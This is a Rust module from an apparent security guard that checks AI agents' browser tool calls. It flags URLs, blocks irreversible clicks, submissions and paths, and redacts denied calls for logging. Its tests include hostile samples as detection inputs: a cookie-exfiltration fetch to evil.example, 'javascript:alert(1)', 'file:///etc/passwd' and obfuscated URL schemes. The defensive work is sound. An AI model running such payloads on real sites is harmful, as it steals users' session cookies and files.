//! The decision: one function, [`decide`], from a flow and a hook payload to a [`Verdict`].
//!
//! # What counts as a URL
//!
//! Every string at any depth of `tool_input` (objects and arrays) that is either
//! - the value of a **URL-like key**: `url`, `uri`, `href`, `link`, `src`, `location`, or any key
//!   ending in `url`, `uri` or `href` (case-insensitive, so `imageUrl`, `redirect_uri`); such a key
//!   must hold a string, anything else denies (`non_string_url`). The plurals `urls`, `uris`,
//!   `hrefs`, `links` (and keys ending in `urls`) may hold a string or an array of strings;
//! - or **navigation-looking** wherever it is (any key, array element, or an object key itself):
//!   after WHATWG's stripping (leading C0 controls and spaces, tabs and newlines anywhere) it
//!   begins with a scheme followed by `//`, `\` or `/\`; or with a special scheme (`http:`,
//!   `https:`, `ws:`, `wss:`, `ftp:`, `file:`) followed by anything, because a browser reads
//!   `http:evil.example` as `http://evil.example/`; or with `javascript:`, `data:`, `blob:`,
//!   `view-source:`, `filesystem:`, `about:`, `chrome:`, `intent:`; or it is scheme-relative
//!   (`//host`, `\\host`), which a page resolves to `host`. Such a string is then judged as a URL:
//!   scheme-relative ones cannot be (no base), so they deny as `unparseable_url`.
//!
//! Element references are not URLs: `{"element": "Place order button", "target": "e5"}` and
//! `{"uid": "1_4"}` carry no URL-like key and no navigation-looking string.
//!
//! # Irreversibility, judged from the call alone
//!
//! - the tool's name against `irreversible.tools` and the built-in sets;
//! - the path of every inside URL against `irreversible.url_paths` (normalised as servers route);
//! - for a call that activates an element ([`activation`]: as the browser tool catalogue,
//!   `leopold_flows::catalogue`, says for a tool it knows: a click, a drag, a chosen option, a
//!   `type` with `submit`, a `fill_form` ticking or choosing a field, a key, an accepted dialog;
//!   for any other tool, its own name contains `click`, `press`, `submit`, `tap`, `check`,
//!   `select`, `drag`, `drop`, `toggle`, `fill` or `dialog`; or the input holds
//!   `"submit": true` at any depth), every string under a **label key** at any depth, and every
//!   name the catalogue says the arguments give the element (a drag's `startElement` and
//!   `endElement`, a select's `values`, a checkbox or combobox field's `name` and `value`),
//!   against `click_labels` and the built-in sets. Label keys, case-insensitive with `_` and `-`
//!   ignored: `element`, `label`, `text`, `name`, `description`, `title`, `selector`, `locator`,
//!   `arialabel`, `accessiblename`, `buttontext`. A key or a dialog names no element in the call:
//!   a provisioned run judges them against the page (`crate::browser`).

use leopold_flows::catalogue::{self, Activation, Tool};
use leopold_flows::{Flow, UrlVerdict};
use serde_json::Value;

use crate::reason::{Denial, Reason, Verdict};

/// The PreToolUse payload, both harnesses' shapes (docs/harness-facts.md#3-hook-input). Unknown
/// fields are ignored.
#[derive(Debug, Clone, PartialEq)]
pub struct HookInput {
    /// `tool_name`, e.g. `mcp__browser__browser_navigate`.
    pub tool_name: String,
    /// `tool_input`: whatever the model sent.
    pub tool_input: Value,
    /// `cwd`: the session's working directory.
    pub cwd: Option<String>,
    /// `tool_use_id`, when the harness sends one.
    pub tool_use_id: Option<String>,
}

impl HookInput {
    /// Reads a payload that is already JSON.
    ///
    /// # Errors
    ///
    /// [`Reason::PayloadNotJson`] when it is not an object; [`Reason::PayloadMissingField`] (with
    /// the field's name) when `tool_name` is not a string or `tool_input` is missing or null.
    pub fn from_value(value: Value) -> Result<HookInput, Denial> {
        let Value::Object(mut map) = value else {
            return Err(Denial::new(Reason::PayloadNotJson));
        };
        let tool_name = match map.remove("tool_name") {
            Some(Value::String(s)) if !s.is_empty() => s,
            _ => {
                return Err(Denial::new(Reason::PayloadMissingField)
                    .with_detail("`tool_name` (a non-empty string)"))
            }
        };
        let tool_input = match map.remove("tool_input") {
            Some(Value::Null) | None => {
                return Err(Denial::new(Reason::PayloadMissingField).with_detail("`tool_input`"))
            }
            Some(v) => v,
        };
        let text = |v: Option<Value>| match v {
            Some(Value::String(s)) => Some(s),
            _ => None,
        };
        Ok(HookInput {
            tool_name,
            tool_input,
            cwd: text(map.remove("cwd")),
            tool_use_id: text(map.remove("tool_use_id")),
        })
    }

    /// Parses payload bytes.
    ///
    /// # Errors
    ///
    /// As [`HookInput::from_value`]; bytes that are not JSON are [`Reason::PayloadNotJson`].
    pub fn from_slice(bytes: &[u8]) -> Result<HookInput, Denial> {
        let value: Value =
            serde_json::from_slice(bytes).map_err(|_| Denial::new(Reason::PayloadNotJson))?;
        HookInput::from_value(value)
    }
}

/// Decides one tool call against the active flow. Pure: no I/O, no state.
pub fn decide(flow: &Flow, input: &HookInput) -> Verdict {
    let collect_labels = flow.has_label_rules();
    let mut inside: Vec<(String, url::Url)> = Vec::new();
    let mut labels: Vec<&str> = Vec::new();
    let mut submit = false;
    let walked = walk_call(&input.tool_input, &mut |item| match item {
        CallItem::Url(raw) => judge(flow, raw, &mut inside),
        CallItem::NonStringUrl => Err(Denial::new(Reason::NonStringUrl)),
        CallItem::Label(s) => {
            if collect_labels {
                labels.push(s);
            }
            Ok(())
        }
        CallItem::Submit => {
            submit = true;
            Ok(())
        }
    });
    if let Err(denial) = walked {
        return Verdict::Deny(denial);
    }
    if let Some(hit) = flow.match_tool(&input.tool_name) {
        return Verdict::Deny(Denial::new(Reason::IrreversibleTool).with_detail(hit.rule));
    }
    for (host, url) in &inside {
        if let Some(hit) = flow.match_path(url.path()) {
            return Verdict::Deny(
                Denial::new(Reason::IrreversiblePath)
                    .with_host(host.clone())
                    .with_detail(hit.rule),
            );
        }
    }
    if collect_labels && (submit || activation(&input.tool_name, &input.tool_input).activates()) {
        // The names the catalogue knows the tool's arguments give (a drag's two ends, the chosen
        // options) as well as every string under a label key.
        if let Some(tool) = catalogue_entry(&input.tool_name) {
            labels.extend(catalogue::element_names(tool, &input.tool_input));
        }
        for label in &labels {
            if let Some(hit) = flow.match_label(label) {
                return Verdict::Deny(Denial::new(Reason::IrreversibleLabel).with_detail(hit.rule));
            }
        }
    }
    Verdict::Allow
}

/// The catalogue's entry for an MCP tool: its own name's last segment (so a `__` in the
/// server's name cannot hide it, see [`bare_tool`]), with or without Playwright's `browser_`.
/// `None` for a tool that is not an MCP tool, or that the catalogue does not know.
pub fn catalogue_entry(tool_name: &str) -> Option<&'static Tool> {
    if !tool_name.starts_with("mcp__") {
        return None;
    }
    let b = bare_tool(tool_name);
    catalogue::find(b.rsplit("__").next().unwrap_or(b))
}

/// How a call activates an element: as the catalogue says for a tool it knows; for any other
/// tool, [`Activation::Elements`] when its name says so ([`activates_by_name`]), so a later
/// server's `browser_check` is judged like a click before anyone catalogues it.
pub fn activation(tool_name: &str, input: &Value) -> Activation {
    match catalogue_entry(tool_name) {
        Some(tool) => catalogue::activation(tool, input),
        None if activates_by_name(tool_name) => Activation::Elements,
        None => Activation::No,
    }
}

/// A tool the catalogue does not know, whose own name says it activates something: a click,
/// press, submit or tap ([`is_click_like`]), or a check, select, drag, drop, toggle, fill or
/// dialog.
pub fn activates_by_name(tool_name: &str) -> bool {
    let bare = bare_tool(tool_name).to_ascii_lowercase();
    is_click_like(tool_name)
        || [
            "check", "select", "drag", "drop", "toggle", "fill", "dialog",
        ]
        .iter()
        .any(|w| bare.contains(w))
}

/// What [`walk_call`] meets in a tool call's input, in document order.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CallItem<'a> {
    /// A string the call carries as a URL: under a URL-like key, or navigation-looking anywhere
    /// (an object key included). Not yet judged.
    Url(&'a str),
    /// A URL-like key whose value is not a string (or an array of strings, for the plurals).
    NonStringUrl,
    /// A string under a label key (`element`, `label`, `text`, ...).
    Label(&'a str),
    /// `"submit": true` somewhere in the input.
    Submit,
}

/// Walks every value of a tool call's input (see the module docs for what counts as a URL) and
/// hands each [`CallItem`] to `f`, stopping at its first error. The guard judges with it before
/// a call runs; the journal extracts the same URLs from the calls that ran, so the two can never
/// disagree about what a call carried.
///
/// # Errors
///
/// The first error `f` returns.
pub fn walk_call<'a, E>(
    input: &'a Value,
    f: &mut dyn FnMut(CallItem<'a>) -> Result<(), E>,
) -> Result<(), E> {
    walk(input, false, f)
}

// Depth is bounded by serde_json's recursion limit (128) on parse.
fn walk<'a, E>(
    v: &'a Value,
    under_label_key: bool,
    f: &mut dyn FnMut(CallItem<'a>) -> Result<(), E>,
) -> Result<(), E> {
    match v {
        Value::String(s) => {
            if looks_like_navigation(s) {
                f(CallItem::Url(s))?;
            }
            if under_label_key {
                f(CallItem::Label(s))?;
            }
        }
        Value::Array(items) => {
            for item in items {
                walk(item, under_label_key, f)?;
            }
        }
        Value::Object(map) => {
            for (key, value) in map {
                if looks_like_navigation(key) {
                    f(CallItem::Url(key))?;
                }
                match url_key(key) {
                    UrlKey::Single => match value {
                        Value::String(s) => f(CallItem::Url(s))?,
                        _ => f(CallItem::NonStringUrl)?,
                    },
                    UrlKey::Plural => match value {
                        Value::String(s) => f(CallItem::Url(s))?,
                        Value::Array(items) => {
                            for item in items {
                                match item {
                                    Value::String(s) => f(CallItem::Url(s))?,
                                    _ => f(CallItem::NonStringUrl)?,
                                }
                            }
                        }
                        _ => f(CallItem::NonStringUrl)?,
                    },
                    UrlKey::No => {
                        if value == &Value::Bool(true) && key.eq_ignore_ascii_case("submit") {
                            f(CallItem::Submit)?;
                        }
                        walk(value, is_label_key(key), f)?;
                    }
                }
            }
        }
        Value::Null | Value::Bool(_) | Value::Number(_) => {}
    }
    Ok(())
}

fn judge(flow: &Flow, raw: &str, inside: &mut Vec<(String, url::Url)>) -> Result<(), Denial> {
    match flow.judge_url_parsed(raw) {
        (UrlVerdict::Inside { host }, Some(url)) => {
            inside.push((host, url));
            Ok(())
        }
        (UrlVerdict::Outside { host }, _) => {
            Err(Denial::new(Reason::OutsideAllowlist).with_host(host))
        }
        (UrlVerdict::NotWeb { scheme }, url) => {
            let mut d = Denial::new(Reason::NotWebScheme).with_detail(format!("{scheme}:"));
            if let Some(h) = url.as_ref().and_then(|u| u.host_str()) {
                if let Some(h) = crate::reason::safe_text(h, 253) {
                    if !h.is_empty() {
                        d = d.with_host(h);
                    }
                }
            }
            Err(d)
        }
        _ => Err(Denial::new(Reason::UnparseableUrl)),
    }
}

enum UrlKey {
    No,
    Single,
    Plural,
}

fn url_key(key: &str) -> UrlKey {
    // Keys are short; compare case-insensitively without allocating for the common ones.
    let k = key.as_bytes();
    let ends = |suffix: &str| {
        k.len() >= suffix.len()
            && k[k.len() - suffix.len()..].eq_ignore_ascii_case(suffix.as_bytes())
    };
    let is = |word: &str| key.eq_ignore_ascii_case(word);
    if is("link") || is("src") || is("location") || ends("url") || ends("uri") || ends("href") {
        UrlKey::Single
    } else if is("links") || ends("urls") || ends("uris") || ends("hrefs") {
        UrlKey::Plural
    } else {
        UrlKey::No
    }
}

const LABEL_KEYS: &[&str] = &[
    "element",
    "label",
    "text",
    "name",
    "description",
    "title",
    "selector",
    "locator",
    "arialabel",
    "accessiblename",
    "buttontext",
];

fn is_label_key(key: &str) -> bool {
    if key.len() > 32 {
        return false;
    }
    let mut folded = [0u8; 32];
    let mut n = 0;
    for b in key.bytes().filter(|b| *b != b'_' && *b != b'-') {
        folded[n] = b.to_ascii_lowercase();
        n += 1;
    }
    LABEL_KEYS.iter().any(|k| k.as_bytes() == &folded[..n])
}

/// A call's input as a journal may keep it, for the event of a denial: the same shape, with
///
/// - every string the guard reads as a URL (under a URL-like key, or navigation-looking)
///   replaced by `{"leopold_url": {"scheme", "host", "path"}}`, parsed as the journal parses it
///   (`path` for http(s) only; `{}` when it does not parse): no userinfo, query or fragment,
///   and no URL string, which events.jsonl never holds;
/// - typed text (`text`, `value`) replaced by as many `*` as it had characters, except a click's
///   `text`, which is its label;
/// - the strings that name an element (label-like keys, `ref`, `target`, `key`) kept;
/// - every other string emptied (code for `browser_evaluate`, a file name, …), and a key that
///   is itself navigation-looking dropped.
///
/// The journal turns it back into a call (`leopold_journal::denial_from_line`) and builds the
/// denied Codex call's action with the function that builds a denied Claude call's action from
/// the real input, so both journal the same fields.
pub fn reduced_call(tool: &str, input: &Value) -> Value {
    reduce(input, None, is_click_like(tool))
}

/// The key [`reduced_call`] puts a reduced URL under.
pub const REDUCED_URL_KEY: &str = "leopold_url";

fn reduce(v: &Value, key: Option<&str>, click: bool) -> Value {
    match v {
        Value::String(s) => {
            let url_keyed = key.is_some_and(|k| !matches!(url_key(k), UrlKey::No));
            if url_keyed || looks_like_navigation(s) {
                return reduce_url(s);
            }
            let Some(k) = key else {
                return Value::String(String::new());
            };
            let typed =
                k.eq_ignore_ascii_case("value") || (k.eq_ignore_ascii_case("text") && !click);
            if typed {
                Value::String("*".repeat(s.chars().count()))
            } else if is_label_key(k)
                || ["ref", "target", "key"]
                    .iter()
                    .any(|w| k.eq_ignore_ascii_case(w))
            {
                Value::String(s.clone())
            } else {
                Value::String(String::new())
            }
        }
        Value::Array(items) => Value::Array(items.iter().map(|i| reduce(i, key, click)).collect()),
        Value::Object(map) => Value::Object(
            map.iter()
                .filter(|(k, _)| !looks_like_navigation(k))
                .map(|(k, v)| (k.clone(), reduce(v, Some(k), click)))
                .collect(),
        ),
        Value::Null | Value::Bool(_) | Value::Number(_) => v.clone(),
    }
}

/// `{"leopold_url": {"scheme", "host", "path"}}` of a URL string.
fn reduce_url(raw: &str) -> Value {
    let mut parts = serde_json::Map::new();
    if let Ok(u) = url::Url::parse(raw.trim()) {
        parts.insert("scheme".into(), Value::String(u.scheme().to_owned()));
        if let Some(h) = u.host() {
            parts.insert("host".into(), Value::String(h.to_string()));
        }
        if matches!(u.scheme(), "http" | "https") {
            parts.insert("path".into(), Value::String(u.path().to_owned()));
        }
    }
    let mut m = serde_json::Map::new();
    m.insert(REDUCED_URL_KEY.into(), Value::Object(parts));
    Value::Object(m)
}

/// The tool's own name: for an MCP tool, `mcp__<server>__<tool>` on both harnesses, the part
/// after the server; any other tool (`WebFetch`), the whole name.
///
/// The server is the first segment, and the tool everything after it, `__` included: that is
/// how Claude Code reads the name back (its `mcpInfoFromString`: `serverName = parts[1]`,
/// `toolName = parts.slice(2).join("__")`), and tool names do hold `__` (Claude's own
/// `mcp__<server>__Claude_Browser__save_download`). Codex builds the same name from the item's
/// `server` and `tool`. So `mcp__a__b__c` is tool `b__c` of server `a`.
///
/// Neither harness forbids `__` in a *server* name, and then this split is wrong (`mcp__my__pw__
/// browser_evaluate` reads as tool `pw__browser_evaluate`). Checks that must not miss a tool
/// therefore also look at the last segment ([`crate::browser::dangerous_tool`]) or search the
/// whole tool part ([`is_click_like`]).
pub fn bare_tool(tool_name: &str) -> &str {
    match tool_name.strip_prefix("mcp__") {
        Some(rest) => rest.split_once("__").map_or(rest, |(_, tool)| tool),
        None => tool_name,
    }
}

/// A click, press or submit: the tool's own name ([`bare_tool`], which holds its last segment)
/// says so.
pub fn is_click_like(tool_name: &str) -> bool {
    let bare = bare_tool(tool_name).to_ascii_lowercase();
    ["click", "press", "submit", "tap"]
        .iter()
        .any(|w| bare.contains(w))
}

/// Whether a browser would take this string as a navigation, whatever key it sits under
/// (see the module docs).
pub fn looks_like_navigation(s: &str) -> bool {
    // WHATWG: strip leading C0 controls and spaces; remove tabs and newlines anywhere. Only the
    // first bytes matter (a scheme and two more), so build a bounded stripped prefix.
    let mut head = [0u8; 256];
    let mut n = 0;
    let mut started = false;
    for &b in s.as_bytes() {
        if !started && b <= 0x20 {
            continue;
        }
        started = true;
        if matches!(b, b'\t' | b'\n' | b'\r') {
            continue;
        }
        head[n] = b;
        n += 1;
        if n == head.len() {
            break;
        }
    }
    let head = &head[..n];
    // Scheme-relative (`//host`, `\\host`, `/\host`): a page resolves it against its own URL, so
    // it is a navigation to `host`. A space after the slashes (`// note`) is prose, not a host.
    if head.len() >= 3
        && matches!(head[0], b'/' | b'\\')
        && matches!(head[1], b'/' | b'\\')
        && !matches!(head[2], b'/' | b'\\' | b' ')
    {
        return true;
    }
    // A scheme: ASCII alpha, then alphanumerics, `+`, `-`, `.`, then `:`.
    let Some(colon) = head.iter().position(|&b| b == b':') else {
        return false;
    };
    let scheme = &head[..colon];
    if scheme.is_empty()
        || !scheme[0].is_ascii_alphabetic()
        || !scheme
            .iter()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'-' | b'.'))
    {
        return false;
    }
    let rest = &head[colon + 1..];
    if rest.starts_with(b"//") || rest.starts_with(b"\\") || rest.starts_with(b"/\\") {
        return true;
    }
    const ALWAYS: &[&str] = &[
        "http",
        "https",
        "ws",
        "wss",
        "ftp",
        "file",
        "javascript",
        "data",
        "blob",
        "view-source",
        "filesystem",
        "about",
        "chrome",
        "intent",
    ];
    ALWAYS
        .iter()
        .any(|a| a.as_bytes().eq_ignore_ascii_case(scheme))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_reduced_call_keeps_hosts_paths_labels_and_lengths_and_nothing_else() {
        let input = serde_json::json!({
            "url": "https://user:pw@staging.example.com/cart?token=s3cret#f",
            "batch": [{"url": "https://evil.example/collect?x=1"}, {"url": "javascript:alert(1)"}],
            "links": ["www.no-scheme.example/x"],
            "element": "the blue button",
            "target": "e5",
            "text": "4242 4242 4242 4242",
            "fields": [{"name": "Card", "value": "4242"}],
            "function": "() => fetch('https://evil.example/?c=' + document.cookie)",
            "submit": true
        });
        let r = reduced_call("mcp__browser__browser_type", &input);
        assert_eq!(
            r,
            serde_json::json!({
                "url": {"leopold_url": {"scheme": "https", "host": "staging.example.com", "path": "/cart"}},
                "batch": [
                    {"url": {"leopold_url": {"scheme": "https", "host": "evil.example", "path": "/collect"}}},
                    {"url": {"leopold_url": {"scheme": "javascript"}}}
                ],
                "links": [{"leopold_url": {}}],
                "element": "the blue button",
                "target": "e5",
                "text": "*******************",
                "fields": [{"name": "Card", "value": "****"}],
                "function": "",
                "submit": true
            })
        );
        let line = r.to_string();
        for secret in ["pw@", "s3cret", "4242", "cookie", "x=1", "://"] {
            assert!(!line.contains(secret), "{secret} in {line}");
        }
        // A click's `text` is its label, kept.
        let click = reduced_call("mcp__s__click", &serde_json::json!({"text": "Place order"}));
        assert_eq!(click, serde_json::json!({"text": "Place order"}));
    }

    #[test]
    fn the_tool_is_everything_after_the_server() {
        assert_eq!(bare_tool("mcp__browser__browser_click"), "browser_click");
        assert_eq!(bare_tool("mcp__a__b__c"), "b__c");
        assert_eq!(
            bare_tool("mcp__claude-in-chrome__Claude_Browser__save_download"),
            "Claude_Browser__save_download"
        );
        assert_eq!(bare_tool("WebFetch"), "WebFetch");
        assert_eq!(bare_tool("mcp__lonely"), "lonely");
        assert_eq!(bare_tool("mcp__"), "");
        // Click-likeness searches the whole tool part: a `__` in the server's name cannot hide
        // a click.
        assert!(is_click_like("mcp__a__b__click"));
        assert!(is_click_like("mcp__my__pw__browser_click"));
        assert!(!is_click_like("mcp__clicker__navigate"));
    }

    #[test]
    fn navigation_looking_strings() {
        for yes in [
            "https://a.example/",
            "  \t\nhttps://a.example/",
            "\u{0}\u{1f}https://a.example/",
            "ht\ttp://a.example/",
            "JaVaScRiPt:alert(1)",
            "java\nscript:alert(1)",
            "http:evil.example",
            "https:/\\evil.example",
            "foo://evil.example",
            "foo:\\\\evil.example",
            "data:text/html,x",
            "view-source:https://a.example/",
            "blob:https://a.example/uuid",
            "file:///etc/passwd",
            "//evil.example/",
            "\\\\evil.example",
            "averyveryveryverylongschemename+x.y://evil.example/",
        ] {
            assert!(looks_like_navigation(yes), "{yes:?}");
        }
        for no in [
            "e5",
            "1_4",
            "Place order",
            "Re: hello",
            "note: buy milk",
            "a.example/x",
            "// a comment",
            ":https://x",
            "1http://x",
            "",
            "\u{a0}https://a.example/",
        ] {
            assert!(!looks_like_navigation(no), "{no:?}");
        }
    }

    #[test]
    fn url_keys() {
        for k in [
            "url",
            "URL",
            "uri",
            "href",
            "link",
            "src",
            "location",
            "imageUrl",
            "redirect_uri",
            "baseHref",
        ] {
            assert!(matches!(url_key(k), UrlKey::Single), "{k}");
        }
        for k in ["urls", "Links", "imageUrls", "hrefs"] {
            assert!(matches!(url_key(k), UrlKey::Plural), "{k}");
        }
        for k in [
            "element",
            "target",
            "uid",
            "curl_flags",
            "geolocation",
            "source",
        ] {
            assert!(matches!(url_key(k), UrlKey::No), "{k}");
        }
    }

    #[test]
    fn label_keys_and_click_like_tools() {
        assert!(is_label_key("element"));
        assert!(is_label_key("aria_label"));
        assert!(is_label_key("ariaLabel"));
        assert!(!is_label_key("target"));
        assert!(!is_label_key("uid"));
        assert!(is_click_like("mcp__browser__browser_click"));
        assert!(is_click_like("mcp__devtools__click"));
        assert!(is_click_like("mcp__browser__browser_press_key"));
        assert!(!is_click_like("mcp__browser__browser_navigate"));
        assert!(!is_click_like("mcp__clicker__navigate"));
    }
}
